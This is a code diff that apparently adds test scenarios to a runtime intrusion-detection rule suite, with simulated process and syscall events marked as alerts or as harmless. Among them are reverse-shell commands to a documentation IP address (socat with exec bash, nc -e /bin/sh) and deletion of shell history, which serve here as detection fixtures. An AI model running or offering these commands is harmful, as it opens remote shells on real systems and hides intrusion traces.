@@ -84,6 +84,12 @@ extension Scenario {
     .alert("program.network-tool", .high, "nc -e") { s in
       s.run("nc", "203.0.113.66", "4444", "-e", "/bin/sh", below: s.run("nginx"))
     },
+    .alert("program.network-tool", .high, "socat for a shell") { s in
+      s.run("socat", "tcp:203.0.113.66:4444", "exec:'bash -li',pty", below: s.run("nginx"))
+    },
+    .alert("program.network-tool", .medium, "socat that echoes") { s in
+      s.run("socat", "TCP-LISTEN:7,fork", "EXEC:/bin/cat")
+    },
     .alert("program.network-tool", .medium, "nmap") { s in s.run("nmap", "10.0.0.0/24", below: s.run("nginx")) },
     .harmless("program.network-tool", "a health check") { s in s.run("nc", "-z", "127.0.0.1", "6379") },
     .alert("program.package-manager", .low, "apt-get install") { s in
@@ -134,6 +140,9 @@ extension Scenario {
     .alert("hiding.traces-removed", .medium, "a history") { s in
       s.call(s.run("rm", "/root/.bash_history", below: s.run("bash")), "unlinkat", [], "/root/.bash_history")
     },
+    .harmless("hiding.traces-removed", "a shell ends and writes its history") { s in
+      s.call(s.run("bash"), "openat", [0, 0, 0o1102], "/root/.bash_history", result: 3)
+    },
     .harmless("hiding.traces-removed", "logrotate") { s in
       s.call(s.run("logrotate", "/etc/logrotate.conf"), "unlink", [], "/var/log/nginx/access.log.5")
     },
@@ -168,6 +177,10 @@ extension Scenario {
     },
     .alert("network.raw-socket", .low, "refused") { s in
       s.call(s.run("/opt/sniff"), "socket", [17, 3, 0x300], result: -1)
+    },
+    .harmless("network.raw-socket", "a name is looked up, a login is audited") { s in
+      s.call(s.run("/usr/bin/app"), "socket", [16, 0x80003, 0], result: 3)
+      s.call(s.run("/usr/sbin/sshd"), "socket", [16, 3, 9], result: -1)
     },
     .harmless("network.raw-socket", "ping") { s in s.call(s.run("ping", "10.0.0.1"), "socket", [2, 3, 1], result: 3) },
     .alert("credential.token-read", .medium, "cat") { s in
